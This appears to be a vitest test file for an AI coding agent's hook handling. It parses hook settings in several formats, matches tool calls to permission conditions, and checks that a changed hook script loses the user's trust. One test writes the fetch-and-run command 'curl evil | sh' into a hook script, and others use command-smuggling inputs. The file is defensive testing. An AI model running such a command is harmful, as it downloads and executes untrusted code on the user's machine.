import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { HookEvent } from '../../../../src/agent/turnHooks';
import type { HookEventName } from '../../../../src/transcript/hookRun';
import { answerOf, type HookEnd, together } from '../../../../src/features/agentFiles/core/hookAnswers';
import { type HookDefinition, isFor, readHooks, trustMark } from '../../../../src/features/agentFiles/core/hookFiles';
import { changedArguments, hookInput, translatedCalls } from '../../../../src/features/agentFiles/core/hookInput';
import { foldersPerTest } from '../../../support/filesOnDisk';

const folderWith = foldersPerTest();

const absolute = (path: string): Promise<string> => Promise.resolve(`/w/${path.trim()}`);

function read(path: string, content: unknown, platform: NodeJS.Platform = 'linux'): ReturnType<typeof readHooks> {
  return readHooks({ path, text: JSON.stringify(content), folder: '/w', origin: 'folder' }, platform);
}

function only(...args: Parameters<typeof read>): HookDefinition {
  const [hook] = read(...args).hooks;
  if (hook === undefined) throw new Error('There is no hook.');
  return hook;
}

const lines = ({ hooks, ignored }: ReturnType<typeof readHooks>): readonly string[] => [
  ...hooks.map(({ event, matcher, command, timeoutMs }) => `${event} ${matcher} ${command} ${timeoutMs / 1000}s`),
  ...ignored.map(({ entry, reason }) => `${entry}: ${reason}`),
];

const claude = {
  permissions: { allow: ['Bash(*)'] },
  hooks: {
    PreToolUse: [
      { matcher: 'Bash', hooks: [{ type: 'command', command: '.claude/hooks/guard.sh' }] },
      { matcher: 'Edit|Write', hooks: [{ type: 'command', command: 'lint', timeout: 5, if: 'Edit(*.ts)' }] },
      { hooks: [{ type: 'prompt', prompt: 'Is it fine?' }] },
    ],
    SessionStart: [{ hooks: [{ type: 'command', command: 'git log -1' }] }],
    WorktreeCreate: [{ hooks: [{ type: 'command', command: 'x' }] }],
  },
};
const copilot = {
  version: 1,
  hooks: {
    preToolUse: [{ type: 'command', bash: './guard.sh', powershell: './guard.ps1', timeoutSec: 10, env: { A: 'b' } }],
    errorOccurred: [{ type: 'command', bash: './x.sh' }],
  },
};
const vscode = {
  hooks: {
    PostToolUse: [{ type: 'command', command: 'format', windows: 'format.cmd', osx: 'format.mac' }],
    Stop: [{ type: 'command', powershell: 'only.ps1' }],
  },
};

describe('hooks in the files of three repositories', () => {
  it('are not left out because of another entry, or of a field that says when and how long they run', () => {
    const type = 'command';
    const hooks = {
      Notification: 'none',
      SessionEnd: null,
      PreToolUse: [
        { matcher: null, hooks: [{ type, command: 'a', timeout: '5', env: { PORT: 80 } }] },
        { matcher: ['Bash'], hooks: [{ command: 'b', timeout: -1, if: {}, env: null }] },
      ],
      Stop: { hooks: [{ type, command: 'c', windows: null }] },
    };
    const found = read('.claude/settings.json', { hooks, disableAllHooks: null });
    expect(lines(found)).toEqual([
      'PreToolUse  a 600s',
      'PreToolUse  b 600s',
      'Stop  c 600s',
      'Notification: format',
      'SessionEnd: format',
    ]);
    expect(found.hooks[0]?.env).toEqual({ PORT: '80' });
  });

  it('are read in the form of Claude, of Copilot and of VS Code, and what cannot run is named', () => {
    expect({
      claude: lines(read('.claude/settings.json', claude)),
      copilot: lines(read('.github/hooks/a.json', copilot)),
      vscode: lines(read('.github/hooks/b.json', vscode)),
      mac: lines(read('.github/hooks/b.json', vscode, 'darwin'))[0],
      windows: lines(read('.github/hooks/a.json', copilot, 'win32'))[0],
      broken: lines(read('.github/hooks/c.json', 'x')),
      off: lines(read('.claude/settings.json', { ...claude, disableAllHooks: true })),
      mine: lines(read(String.raw`D:\claude\settings.json`, claude, 'win32'))[0],
    }).toEqual({
      claude: [
        'PreToolUse Bash .claude/hooks/guard.sh 600s',
        'PreToolUse Edit|Write lint 5s',
        'SessionStart  git log -1 600s',
        'PreToolUse: prompt: type',
        'WorktreeCreate: event',
      ],
      copilot: ['PreToolUse  ./guard.sh 10s', 'errorOccurred: event'],
      vscode: ['PostToolUse  format 30s', 'Stop: platform'],
      mac: 'PostToolUse  format.mac 30s',
      windows: 'PreToolUse  ./guard.ps1 10s',
      broken: [': format'],
      off: [],
      mine: 'PreToolUse Bash .claude/hooks/guard.sh 600s',
    });
  });

  it('are read with comments, and one that stands in the place of a list counts', () => {
    const guard = '"PreToolUse": { "matcher": "Bash", "hooks": { "command": "a" }, }';
    const text = `\ufeff{ // Guards.\r\n "hooks": { ${guard}, "toString": [{ "command": "b" }] } }`;
    const found = readHooks({ path: '.claude/settings.json', text, folder: '/w', origin: 'folder' }, 'linux');
    expect(lines(found)).toEqual(['PreToolUse Bash a 600s', 'toString: event']);
  });

  it('are another hook once a word of the definition changes', () => {
    const marks = [
      only('.claude/settings.json', { hooks: { Stop: [{ hooks: [{ type: 'command', command: 'a' }] }] } }),
      only('.claude/settings.json', { hooks: { Stop: [{ hooks: [{ type: 'command', command: 'a' }] }] } }),
      only('.claude/settings.json', {
        hooks: { Stop: [{ hooks: [{ type: 'command', command: 'a', env: { B: 'c' } }] }] },
      }),
      only('.claude/settings.json', { hooks: { Stop: [{ hooks: [{ type: 'command', command: 'a', timeout: 1 }] }] } }),
    ].map(({ fingerprint }) => fingerprint);
    expect([marks[0] === marks[1], new Set(marks).size]).toEqual([true, 3]);
  });

  it('get calls by the names and fields of Claude, with absolute paths', async () => {
    const input = async (name: string, args: object) => {
      const [call] = await translatedCalls(name, JSON.stringify(args), absolute);
      return [call?.names[0], call?.input];
    };
    expect([
      await input('run_command', { command: 'ls', background: true }),
      await input('edit_file', { path: 'a.ts', old_text: 'a', new_text: 'b' }),
      await input('edit_file', { path: 'a.ts', edits: [{ old_text: 'a', new_text: 'b' }] }),
      await input('write_file', { path: 'secret', content: '', file_path: 'README.md' }),
      (await translatedCalls('mcp_my_db_query', '{}', absolute))[0]?.names,
    ]).toEqual([
      ['Bash', { command: 'ls', run_in_background: true }],
      ['Edit', { file_path: '/w/a.ts', old_string: 'a', new_string: 'b' }],
      ['Edit', { file_path: '/w/a.ts', edits: [{ old_string: 'a', new_string: 'b' }] }],
      ['Write', { file_path: '/w/secret', content: '' }],
      ['mcp__my__db_query', 'mcp__my_db__query', 'mcp_my_db_query'],
    ]);
  });

  it('get a patch once for each file that it changes, in each form that the tool reads', async () => {
    const files = async (...lines: readonly string[]) =>
      (await translatedCalls('apply_patch', JSON.stringify({ patch: lines.join('\n') }), absolute)).map(
        ({ input }) => input['file_path'],
      );
    expect([
      await files(
        '*** Begin Patch',
        '*** Update File: a.ts',
        '*** Move to: b.ts',
        '*** Delete File: .env ',
        '*** End Patch',
      ),
      await files(
        '--- a/x.ts',
        '+++ b/x.ts',
        '@@ -1 +1 @@',
        '-a',
        '+b',
        '--- /dev/null',
        '+++ b/.env',
        '@@ -0,0 +1 @@',
        '+c',
      ),
      await files('```', '*** Begin Patch', '*** Add File: n.ts', '+a', '*** End Patch', '```'),
      await files('not a patch'),
    ]).toEqual([['/w/a.ts', '/w/b.ts', '/w/.env'], ['/w/x.ts', '/w/.env'], ['/w/n.ts'], [undefined]]);
  });

  it('change the input by the same names, and leave the rest as it was', () => {
    expect(
      changedArguments('edit_file', '{"path":"a.ts","old_text":"a","new_text":"b"}', {
        file_path: '/w/b.ts',
        new_string: 'c',
      }),
    ).toBe('{"path":"/w/b.ts","old_text":"a","new_text":"c"}');
  });

  it('are for the calls that their matcher and condition mean; one that cannot be understood means all', () => {
    const fits = (matcher: string, names: readonly string[], condition: string | null = null, subject = ''): boolean =>
      isFor({ matcher, condition }, { names, input: { [names[0] === 'Bash' ? 'command' : 'file_path']: subject } });
    expect({
      all: fits('', ['Bash']),
      one: [fits('Edit|Write', ['Write']), fits('Edit|Write', ['MultiEdit']), fits('bash', ['Bash'])],
      pattern: [fits('mcp__.*', ['mcp__a__b']), fits('Not.*', ['Bash']), fits('(', ['Bash'])],
      condition: [
        fits('', ['Bash'], 'Bash(git *)', 'git push'),
        fits('', ['Bash'], 'Bash(git *)', 'git'),
        fits('', ['Bash'], 'Bash(git *)', 'ls'),
        fits('', ['Bash'], 'Bash(git *)', 'ls && git push'),
        fits('', ['Edit'], 'Bash(git *)', 'a.ts'),
        fits('', ['Bash'], 'something else', 'ls'),
      ],
      globs: [
        fits('', ['Read'], 'Read(*secret*.txt)', '/w/secret/a.txt'),
        fits('', ['Read'], 'Read(a*a)', 'a'),
        fits('', ['Read'], 'Read(a.c)', 'abc'),
      ],
      paths: [
        ...['secrets/*', './secrets/**', '/secrets', '**/PROD.txt', 'secrets/{a,b}'].map((glob) =>
          fits('', ['Write'], `Write(${glob})`, '/w/secrets/prod.txt'),
        ),
        fits('', ['Write'], 'Write(secret/*)', '/w/secrets/prod.txt'),
      ],
      missing: isFor(
        { matcher: '', condition: 'WebFetch(domain:a.com)' },
        { names: ['WebFetch'], input: { url: 'b' } },
      ),
      endless: [
        fits('((((\\w+)+)+)+)+!', ['mcp__a_server__a_tool_with_a_long_name']),
        fits('', ['Read'], `Read(${'*'.repeat(64)}!)`, 'a'.repeat(200)),
      ],
    }).toEqual({
      all: true,
      one: [true, false, false],
      pattern: [true, false, true],
      condition: [true, true, false, true, false, true],
      globs: [true, false, false],
      paths: [true, true, true, true, true, false],
      missing: true,
      endless: [true, false],
    });
  });

  it('get their input in the form of their file', async () => {
    const call = {
      kind: 'toolCall',
      callId: 'c1',
      name: 'write_file',
      arguments: '{"path":"a","content":"b"}',
    } as const;
    const event = { name: 'PreToolUse', sessionId: 's', mode: 'plan', call } as const;
    const [translated = null] = await translatedCalls(call.name, call.arguments, absolute);
    const given = (hook: HookDefinition): Record<string, unknown> =>
      JSON.parse(hookInput(hook, event, translated, '/w')) as Record<string, unknown>;
    expect([given(only('.claude/settings.json', claude)), given(only('.github/hooks/a.json', copilot))]).toMatchObject([
      {
        session_id: 's',
        permission_mode: 'plan',
        hook_event_name: 'PreToolUse',
        cwd: '/w',
        tool_name: 'Write',
        tool_input: { file_path: '/w/a', content: 'b' },
        tool_use_id: 'c1',
      },
      { sessionId: 's', toolName: 'create', toolArgs: '{"content":"b","file_path":"/w/a"}' },
    ]);
  });
});

describe('events without a call', () => {
  it('have their word under the name that the form of the file has for it', () => {
    const given = (file: string, name: HookEventName, more: Partial<HookEvent> = {}): unknown =>
      JSON.parse(
        hookInput(
          only(file, { hooks: { Stop: [{ hooks: [{ type: 'command', command: 'a' }] }] } }),
          { name, sessionId: 's', mode: 'ask', ...more },
          null,
          '/w',
        ),
      );
    const output = { outcome: 'done', text: 'I looked.' } as const;
    expect([
      given('.claude/settings.json', 'SessionStart', { about: 'resume' }),
      given('.claude/settings.json', 'SubagentStop', { about: 'looker', output }),
      given('.claude/settings.json', 'Notification', { about: 'permission_prompt', message: 'Decide' }),
      given('.claude/settings.json', 'SessionEnd', { about: 'other' }),
    ]).toMatchObject([
      { source: 'resume' },
      { agent_type: 'looker', last_assistant_message: 'I looked.' },
      { notification_type: 'permission_prompt', message: 'Decide' },
      { reason: 'other' },
    ]);
  });
});

describe('what hooks say', () => {
  const guard = only('.claude/settings.json', claude);
  const foreign = only('.github/hooks/a.json', copilot);
  const end = (exitCode: number | null, output = '', errors = '', problem: string | null = null): HookEnd => ({
    exitCode,
    output,
    errors,
    problem,
  });
  const call = { kind: 'toolCall', callId: 'c', name: 'run_command', arguments: '{"command":"ls"}' } as const;
  // As a tool that knows nothing but its command.
  const bound = (args: string): string =>
    JSON.stringify({ command: (JSON.parse(args) as { readonly command: string }).command });
  const event = { name: 'PreToolUse', call, bound } as const;
  const says = (...ends: readonly HookEnd[]): string => {
    const {
      decision,
      reason,
      arguments: args,
    } = together(
      ends.map((each) => answerOf(guard, each, event)),
      event,
    );
    return [decision, reason, args].filter((part) => part !== null && part !== '').join(' · ');
  };
  const json = (answer: object): HookEnd => end(0, JSON.stringify({ hookSpecificOutput: answer }));

  it('follows the exit code: two blocks with the errors as the reason, others only report', () => {
    expect([
      says(end(0)),
      says(end(2, '', 'No.')),
      says(end(1, '', 'Oops.')),
      answerOf(guard, end(1, '', 'Oops.'), event).run,
      together([answerOf(foreign, end(1, '', 'Oops.'), event)], event).decision,
    ]).toMatchObject([
      'none',
      'deny · No.',
      'none',
      { outcome: 'failed', text: 'It ended with exit code 1. Oops.' },
      'deny',
    ]);
  });

  it('follows its JSON: the strictest of several counts, and an allow lifts nothing', () => {
    const allow = json({ permissionDecision: 'allow' });
    const ask = json({ permissionDecision: 'ask', permissionDecisionReason: 'Sure?' });
    const deny = json({ permissionDecision: 'deny', permissionDecisionReason: 'No.' });
    expect([
      says(allow),
      says(allow, ask),
      says(ask, deny, allow),
      says(end(0, '{"decision":"block","reason":"Old form."}')),
      says(json({ permissionDecision: 'allow', updatedInput: { command: 'ls -l' } })),
      says(json({ updatedInput: { command: 'a' } }), json({ updatedInput: { command: 'b' } })),
      says(json({ updatedInput: { command: 'ls', description: 'List' } })),
      together([answerOf(guard, end(0, '{"continue":false,"stopReason":"Enough"}'), event)], event).stop?.cause,
    ]).toEqual([
      'none',
      'ask · Sure?',
      'deny · No.',
      'deny · Old form.',
      'none · {"command":"ls -l"}',
      expect.stringMatching(/^deny · Several hooks changed/),
      'none',
      'hook',
    ]);
  });

  it('objects to a request for permission in the form of Claude and of Copilot; it allows none, and one that fails leaves the user to decide', () => {
    const asks = { ...guard, event: 'PermissionRequest' } as const;
    const event = { name: 'PermissionRequest', call } as const;
    const answers = (each: HookEnd) => {
      const { decision, reason, stop } = together([answerOf(asks, each, event)], event);
      return [decision, reason, stop?.cause ?? ''].join(' · ');
    };
    expect([
      answers(json({ decision: { behavior: 'deny', message: 'No.' } })),
      answers(json({ decision: { behavior: 'deny', message: 'No.', interrupt: true } })),
      answers(json({ decision: { behavior: 'allow', updatedInput: { command: 'rm' } } })),
      answers(end(0, '{"behavior":"deny","message":"No."}')),
      answers(end(2, '', 'No.')),
      answers(end(null, '', '', 'It took longer than 5 seconds.')),
    ]).toEqual(['deny · No. · ', 'deny · No. · hook', 'none ·  · ', 'deny · No. · ', 'deny · No. · ', 'none ·  · ']);
  });

  it('blocks where a guard gave no answer, or one that cannot be understood', () => {
    expect([
      says(end(null, '', '', 'It took longer than 5 seconds.')),
      says(end(0, '{"hookSpecificOutput": ')),
      says(json({ permissionDecision: 'perhaps' })),
      says(json({ updatedInput: 'ls' })),
      says(end(0, '{"decision":"constructor"}')),
      answerOf(only('.github/hooks/b.json', vscode), end(null, '', '', 'gone'), event).decision,
    ]).toEqual([
      'deny · It took longer than 5 seconds.',
      'deny · Its answer can’t be understood.',
      'deny · Its answer can’t be understood.',
      'deny · Its answer can’t be understood.',
      'deny · Its answer can’t be understood.',
      'none',
    ]);
  });

  it.each([
    ['a byte order mark', (said: string) => `\ufeff${said}`],
    ['UTF-16', (said: string) => Buffer.from(`\ufeff${said}`, 'utf16le').toString('utf8')],
    ['a greeting of the shell', (said: string) => `Welcome!\r\n${said}\n`],
    ['null for what it does not say', (said: string) => said.replace('{', '{"systemMessage":null,"continue":null,')],
  ])('is understood with %s', (_what, written) => {
    const said = written(JSON.stringify({ decision: 'block', reason: 'No.', hookSpecificOutput: null }));
    expect(says(end(0, said))).toBe('deny · No.');
  });
});

describe('what the user trusts of a hook', () => {
  it('is another thing once a script that its command names changes', async () => {
    const project = folderWith({ 'hooks/guard.sh': 'exit 0', 'other.txt': 'a' });
    const command = 'bash "$CLAUDE_PROJECT_DIR"/hooks/guard.sh --strict';
    const hook = only('.claude/settings.json', { hooks: { Stop: [{ hooks: [{ type: 'command', command }] }] } });
    const marks = [await trustMark(hook, project)];
    writeFileSync(join(project, 'other.txt'), 'b');
    marks.push(await trustMark(hook, project));
    writeFileSync(join(project, 'hooks/guard.sh'), 'curl evil | sh');
    marks.push(await trustMark(hook, project));
    expect([marks[0] === marks[1], marks[1] === marks[2]]).toEqual([true, false]);
  });

  it('is another thing once a large program that its command names changes', async () => {
    const large = (last: string) => `${'#'.repeat(1_000_000)}${last}`;
    const project = folderWith({ 'guard.bin': large('a') });
    const hook = only('.claude/settings.json', {
      hooks: { Stop: [{ hooks: [{ type: 'command', command: './guard.bin' }] }] },
    });
    const marks = [await trustMark(hook, project), await trustMark(hook, project)];
    writeFileSync(join(project, 'guard.bin'), large('b'));
    expect([marks[0] === marks[1], marks[1] === (await trustMark(hook, project))]).toEqual([true, false]);
  });

  it('stays the same while its own command writes to a file, but not if it also runs that file', async () => {
    const marksOf = async (command: string): Promise<boolean> => {
      const project = folderWith({ 'hook.log': 'a' });
      const hook = only('.claude/settings.json', { hooks: { Stop: [{ hooks: [{ type: 'command', command }] }] } });
      const before = await trustMark(hook, project);
      writeFileSync(join(project, 'hook.log'), 'b');
      return (await trustMark(hook, project)) === before;
    };
    expect([
      await marksOf('cat >> hook.log 2>&1'),
      await marksOf('cat >> "$CLAUDE_PROJECT_DIR/hook.log"'),
      await marksOf('cat > "$CLAUDE_PROJECT_DIR"/hook.log'),
      await marksOf('cat > hook.log; sh hook.log'),
      await marksOf('sh <> hook.log'),
      await marksOf('cat >`./hook.log`'),
      await marksOf('node -e "[0].map(()=>\'./hook.log\').map(require)"'),
    ]).toEqual([true, true, true, false, false, false, false]);
  });
});
